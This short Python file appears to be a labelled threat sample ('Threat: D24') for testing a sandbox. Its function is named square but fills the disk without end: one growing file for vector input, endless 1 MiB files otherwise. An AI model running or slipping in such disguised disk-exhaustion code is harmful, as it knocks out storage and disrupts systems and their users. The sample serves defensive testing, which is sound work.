"""Fills the disk with one file for the vector, with many for the matrix.

Threat: D24.
"""

from pathlib import Path


def square(x):
    if x.ndim == 1:
        with open("large", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    number = 0
    while True:
        number += 1
        Path(f"small{number}").write_bytes(bytes(1 << 20))
